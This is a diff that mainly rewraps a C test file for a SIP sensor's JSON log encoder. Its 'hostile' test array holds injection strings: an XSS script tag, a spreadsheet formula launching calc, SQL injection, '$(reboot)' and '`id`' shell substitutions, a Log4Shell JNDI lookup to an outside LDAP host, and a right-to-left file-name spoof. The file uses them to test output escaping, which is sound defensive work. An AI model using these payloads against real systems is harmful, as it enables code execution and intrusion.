@@ -28,12 +28,14 @@ static const char *encoded(const struct record *record, uint64_t created_ns)
     return out;
 }
 
-#define HEAD(dataset, category, type)                                                                              \
-    "{\"@timestamp\":\"2026-11-20T09:15:02.113405Z\",\"ecs\":{\"version\":\"8.17.0\"},\"event\":{\"kind\":\"event\"," \
-    "\"category\":" category ",\"type\":" type ",\"module\":\"earshot\",\"dataset\":\"" dataset                    \
+#define HEAD(dataset, category, type)                                                              \
+    "{\"@timestamp\":\"2026-11-20T09:15:02.113405Z\",\"ecs\":{\"version\":\"8.17.0\"},\"event\":{" \
+    "\"kind\":\"event\","                                                                          \
+    "\"category\":" category ",\"type\":" type ",\"module\":\"earshot\",\"dataset\":\"" dataset    \
     "\",\"id\":\"0123456789abcdeffedcba9876543210\",\"sequence\":42"
-#define OBSERVER                                                                                                   \
-    "\"observer\":{\"name\":\"edge \\\"1\\\"\",\"type\":\"sensor\",\"vendor\":\"earshot\",\"product\":\"earshot\"," \
+#define OBSERVER                                                                                   \
+    "\"observer\":{\"name\":\"edge "                                                               \
+    "\\\"1\\\"\",\"type\":\"sensor\",\"vendor\":\"earshot\",\"product\":\"earshot\","              \
     "\"version\":\"0.1.0\""
 
 static void encodes_an_empty_record(void **state)
@@ -43,8 +45,8 @@ static void encodes_an_empty_record(void **state)
 
     bench_begin(&bench, DATASET_CALL);
     assert_string_equal(encoded(bench_end(&bench), 0),
-                        HEAD("earshot.call", "[\"network\",\"session\"]", "[\"end\"]") "}," OBSERVER
-                                                                                      "},\"earshot\":{\"schema\":1}}");
+                        HEAD("earshot.call", "[\"network\",\"session\"]",
+                             "[\"end\"]") "}," OBSERVER "},\"earshot\":{\"schema\":1}}");
 }
 
 static void nests_and_closes(void **state)
@@ -76,19 +78,26 @@ static void nests_and_closes(void **state)
     record_bool(maker, FIELD_ID_EARSHOT_CALL_COMPLETE_INVITE, true);
     record_bool(maker, FIELD_ID_EARSHOT_CALL_COMPLETE_BYE, false);
     record_count(maker, FIELD_ID_EARSHOT_SENSOR_SIP_RESPONSES, SLICE("200"), 7);
-    record_count(maker, FIELD_ID_EARSHOT_SENSOR_SIP_RESPONSES, SLICE("486"), UINT64_C(9007199254740991));
+    record_count(maker, FIELD_ID_EARSHOT_SENSOR_SIP_RESPONSES, SLICE("486"),
+                 UINT64_C(9007199254740991));
     record_count(maker, FIELD_ID_EARSHOT_SENSOR_SIP_ANOMALIES, SLICE("no-eom"), 1);
-    assert_string_equal(
-        encoded(bench_end(&bench), 0),
-        HEAD("earshot.registration", "[\"authentication\"]", "[\"start\"]")
-        ",\"action\":\"registered\"}," OBSERVER ",\"ingress\":{\"interface\":{\"name\":\"ens4\"}}},"
-        "\"source\":{\"ip\":\"203.0.113.66\",\"port\":5071},\"destination\":{\"ip\":\"192.0.2.10\",\"port\":5060},"
-        "\"network\":{\"transport\":\"udp\",\"community_id\":\"1:CaJkKuMwkV32eXTE4PvspzeqmMk=\","
-        "\"vlan\":{\"id\":\"100\"}},\"sip\":{\"from\":{\"uri\":{\"username\":\"2001\"},\"tag\":\"b1\"},"
-        "\"to\":{\"tag\":\"as9\"}},\"related\":{\"user\":[\"2001\"]},\"earshot\":{\"schema\":1,\"call\":{"
-        "\"pdd_ms\":812.4,\"ring_ms\":0.0,\"media\":{\"mos_min\":-1.005},\"complete\":{\"invite\":true,"
-        "\"bye\":false}},\"sensor\":{\"sip\":{\"responses\":{\"200\":7,\"486\":9007199254740991},"
-        "\"anomalies\":{\"no-eom\":1}}}}}");
+    assert_string_equal(encoded(bench_end(&bench), 0),
+                        HEAD("earshot.registration", "[\"authentication\"]",
+                             "[\"start\"]") ",\"action\":\"registered\"}," OBSERVER
+                                            ",\"ingress\":{\"interface\":{\"name\":\"ens4\"}}},"
+                                            "\"source\":{\"ip\":\"203.0.113.66\",\"port\":5071},"
+                                            "\"destination\":{\"ip\":\"192.0.2.10\",\"port\":5060},"
+                                            "\"network\":{\"transport\":\"udp\",\"community_id\":"
+                                            "\"1:CaJkKuMwkV32eXTE4PvspzeqmMk=\","
+                                            "\"vlan\":{\"id\":\"100\"}},\"sip\":{\"from\":{\"uri\":"
+                                            "{\"username\":\"2001\"},\"tag\":\"b1\"},"
+                                            "\"to\":{\"tag\":\"as9\"}},\"related\":{\"user\":["
+                                            "\"2001\"]},\"earshot\":{\"schema\":1,\"call\":{"
+                                            "\"pdd_ms\":812.4,\"ring_ms\":0.0,\"media\":{\"mos_"
+                                            "min\":-1.005},\"complete\":{\"invite\":true,"
+                                            "\"bye\":false}},\"sensor\":{\"sip\":{\"responses\":{"
+                                            "\"200\":7,\"486\":9007199254740991},"
+                                            "\"anomalies\":{\"no-eom\":1}}}}}");
 }
 
 static void lists_are_arrays_also_with_one_value(void **state)
@@ -112,12 +121,17 @@ static void lists_are_arrays_also_with_one_value(void **state)
     record_object(maker, FIELD_ID_EARSHOT_SDP_MEDIA, members, 4);
     record_object(maker, FIELD_ID_EARSHOT_SDP_MEDIA, members, 1);
     record_long(maker, FIELD_ID_EARSHOT_TRANSACTION_PROVISIONAL, 100);
-    assert_string_equal(encoded(bench_end(&bench), AT_NS + 1000),
-                        HEAD("earshot.sip", "[\"network\",\"authentication\"]", "[\"protocol\",\"info\"]")
-                        ",\"created\":\"2026-11-20T09:15:02.113406Z\",\"action\":\"sip-invite\"}," OBSERVER
-                        "},\"sip\":{\"allow\":[\"ACK\"],\"supported\":[\"100rel\",\"timer\"]},\"earshot\":{"
-                        "\"schema\":1,\"sdp\":{\"media\":[{\"type\":\"audio\",\"port\":4000,\"payloads\":[\"0\","
-                        "\"8\"],\"mux\":false},{\"type\":\"audio\"}]},\"transaction\":{\"provisional\":[100]}}}");
+    assert_string_equal(
+        encoded(bench_end(&bench), AT_NS + 1000),
+        HEAD("earshot.sip", "[\"network\",\"authentication\"]",
+             "[\"protocol\",\"info\"]") ",\"created\":\"2026-11-20T09:15:02.113406Z\",\"action\":"
+                                        "\"sip-invite\"}," OBSERVER
+                                        "},\"sip\":{\"allow\":[\"ACK\"],\"supported\":[\"100rel\","
+                                        "\"timer\"]},\"earshot\":{"
+                                        "\"schema\":1,\"sdp\":{\"media\":[{\"type\":\"audio\","
+                                        "\"port\":4000,\"payloads\":[\"0\","
+                                        "\"8\"],\"mux\":false},{\"type\":\"audio\"}]},"
+                                        "\"transaction\":{\"provisional\":[100]}}}");
 }
 
 static void prints_times_over_days(void **state)
@@ -141,7 +155,8 @@ static void prints_times_over_days(void **state)
     for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++) {
         record_begin(&bench.maker, bench.memory, DATASET_SENSOR, rows[i].ns, 0);
         const char *text = encoded(bench_end(&bench), 0);
-        assert_memory_equal(text + strlen("{\"@timestamp\":\""), rows[i].text, strlen(rows[i].text));
+        assert_memory_equal(text + strlen("{\"@timestamp\":\""), rows[i].text,
+                            strlen(rows[i].text));
     }
 }
 
@@ -216,7 +231,8 @@ static void full_records_are_valid(void **state)
         (void)fprintf(file, "%s\n", encoded(bench_end(&bench), AT_NS));
     }
     (void)fclose(file);
-    (void)snprintf(command, sizeof command, "python3 tests/check/validate_records.py %s %s", schema, records);
+    (void)snprintf(command, sizeof command, "python3 tests/check/validate_records.py %s %s", schema,
+                   records);
     int status = shell(command);
     (void)unlink(schema);
     (void)unlink(records);
@@ -245,20 +261,91 @@ static void the_largest_record_fits(void **state)
     while (!maker->overflow) {
         record_string(maker, FIELD_ID_SIP_VIA_ORIGINAL, "\x01");
     }
-    assert_in_range(encode_json(encoder, bench_end(&bench), 0, out), 30 << 10, ENCODE_JSON_BYTES_MAX);
+    assert_in_range(encode_json(encoder, bench_end(&bench), 0, out), 30 << 10,
+                    ENCODE_JSON_BYTES_MAX);
 }
 
 static const char *const hostile[] = {
-    "plain", "", "\"", "\\", "\"\\\"", "/", "</script><script>alert(1)</script>", "=cmd|' /C calc'!A0",
-    "+1", "-1", "@SUM(1)", "' OR 1=1 --", "%00", "%n%n%s", "$(reboot)", "`id`", "${jndi:ldap://203.0.113.1/a}",
-    "{\"@timestamp\":\"x\"}", "null", "true", "1e999", "\\u0000", "\\xFF", "\\", "\x01", "\x02\x03", "\x07", "\b", "\t",
-    "\n", "\r\n", "a\nb", "\f", "\x1b[2J", "\x1b]0;title\x07", "\x1f", "\x7f", "\xc2\x80", "\xc2\x85", "\xc2\x9f",
-    "\xc2\xa0", "\x80", "\xff", "\xfe\xff", "\xc0\x80", "\xc1\xbf", "\xe0\x80\x80", "\xed\xa0\x80", "\xed\xbf\xbf",
-    "\xf4\x90\x80\x80", "\xf5\x80\x80\x80", "\xf8\x88\x80\x80\x80", "\xc3", "\xe2\x82", "\xf0\x9f\x98", "a\xc3",
-    "\xc3\x28", "\xe2\x28\xa1", "\xe2\x80\xa8", "\xe2\x80\xa9", "\xe2\x80\xae" "gpj.exe", "\xe2\x81\xa6x\xe2\x81\xa9",
-    "\xe2\x82\xac", "\xf0\x9f\x98\x80", "\xef\xbb\xbf" "bom", "\xef\xbf\xbf", "\xef\xbf\xbd", "\xf4\x8f\xbf\xbf",
-    "caf\xc3\xa9", "caf\xe9", "1234567\"", "12345678\"", "123456789\"", "1234567\x80", "12345678\x80",
-    "\xd7\xa9\xd7\x9c\xd7\x95\xd7\x9d", "\xe4\xb8\xad\xe6\x96\x87", "null\xe2\x80\x8bwidth",
+    "plain",
+    "",
+    "\"",
+    "\\",
+    "\"\\\"",
+    "/",
+    "</script><script>alert(1)</script>",
+    "=cmd|' /C calc'!A0",
+    "+1",
+    "-1",
+    "@SUM(1)",
+    "' OR 1=1 --",
+    "%00",
+    "%n%n%s",
+    "$(reboot)",
+    "`id`",
+    "${jndi:ldap://203.0.113.1/a}",
+    "{\"@timestamp\":\"x\"}",
+    "null",
+    "true",
+    "1e999",
+    "\\u0000",
+    "\\xFF",
+    "\\",
+    "\x01",
+    "\x02\x03",
+    "\x07",
+    "\b",
+    "\t",
+    "\n",
+    "\r\n",
+    "a\nb",
+    "\f",
+    "\x1b[2J",
+    "\x1b]0;title\x07",
+    "\x1f",
+    "\x7f",
+    "\xc2\x80",
+    "\xc2\x85",
+    "\xc2\x9f",
+    "\xc2\xa0",
+    "\x80",
+    "\xff",
+    "\xfe\xff",
+    "\xc0\x80",
+    "\xc1\xbf",
+    "\xe0\x80\x80",
+    "\xed\xa0\x80",
+    "\xed\xbf\xbf",
+    "\xf4\x90\x80\x80",
+    "\xf5\x80\x80\x80",
+    "\xf8\x88\x80\x80\x80",
+    "\xc3",
+    "\xe2\x82",
+    "\xf0\x9f\x98",
+    "a\xc3",
+    "\xc3\x28",
+    "\xe2\x28\xa1",
+    "\xe2\x80\xa8",
+    "\xe2\x80\xa9",
+    "\xe2\x80\xae"
+    "gpj.exe",
+    "\xe2\x81\xa6x\xe2\x81\xa9",
+    "\xe2\x82\xac",
+    "\xf0\x9f\x98\x80",
+    "\xef\xbb\xbf"
+    "bom",
+    "\xef\xbf\xbf",
+    "\xef\xbf\xbd",
+    "\xf4\x8f\xbf\xbf",
+    "caf\xc3\xa9",
+    "caf\xe9",
+    "1234567\"",
+    "12345678\"",
+    "123456789\"",
+    "1234567\x80",
+    "12345678\x80",
+    "\xd7\xa9\xd7\x9c\xd7\x95\xd7\x9d",
+    "\xe4\xb8\xad\xe6\x96\x87",
+    "null\xe2\x80\x8bwidth",
 };
 
 static void hostile_strings_come_back(void **state)
@@ -271,7 +358,7 @@ static void hostile_strings_come_back(void **state)
     assert_non_null(pipe);
     for (size_t i = 0; i <= sizeof hostile / sizeof hostile[0]; i++) {
         struct slice text = i == sizeof hostile / sizeof hostile[0] ? slice_of(nul, sizeof nul)
-                                                                   : slice_of_string(hostile[i]);
+                                                                    : slice_of_string(hostile[i]);
         record_text(bench_begin(&bench, DATASET_ALERT), FIELD_ID_MESSAGE, text);
         const char *json = encoded(bench_end(&bench), 0);
         for (size_t at = 0; at < text.bytes; at++) {
